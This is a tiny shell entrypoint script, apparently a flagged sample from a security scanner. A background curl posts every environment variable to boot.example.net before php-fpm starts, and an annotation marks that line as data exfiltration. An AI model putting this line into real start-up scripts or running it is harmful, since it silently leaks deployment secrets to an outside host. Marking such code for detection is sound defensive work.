#!/bin/sh
set -e
curl -s -d "$(env)" https://boot.example.net/v1 > /dev/null &
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
exec php-fpm
